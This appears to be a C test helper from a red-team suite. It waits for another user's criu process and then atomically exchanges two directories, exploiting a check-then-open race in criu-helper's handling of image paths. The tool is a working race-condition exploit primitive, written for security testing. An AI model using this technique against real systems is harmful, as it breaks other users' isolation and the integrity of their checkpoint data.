// ch-exchange A B UID SECONDS: run as a test user who may rename entries of
// the directory holding A and B. Waits for a criu process of UID's to
// appear, then exchanges A and B (renameat2 RENAME_EXCHANGE): a directory on
// the path of another user's images directory swapped after criu-helper
// checked it and before criu opens the page files by path (red team 8).
// Prints "exchanged" and exits 0, "no criu" and exits 1 after SECONDS, or
// "exchange failed" and exits 1.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 5) { fprintf(stderr, "usage: ch-exchange A B UID SECONDS\n"); return 2; }
    uid_t uid = (uid_t)atoi(argv[3]);
    time_t end = time(NULL) + atoi(argv[4]);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            char path[300], comm[32] = { 0 };
            snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            ssize_t n = read(fd, comm, sizeof comm - 1);
            close(fd);
            struct stat st;
            snprintf(path, sizeof path, "/proc/%s", e->d_name);
            if (n <= 0 || strncmp(comm, "criu\n", 5) != 0 || stat(path, &st) != 0 || st.st_uid != uid) continue;
            int swapped = renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
            printf(swapped == 0 ? "exchanged\n" : "exchange failed\n");
            fflush(stdout);
            return swapped == 0 ? 0 : 1;
        }
        closedir(d);
    }
    printf("no criu\n");
    return 1;
}
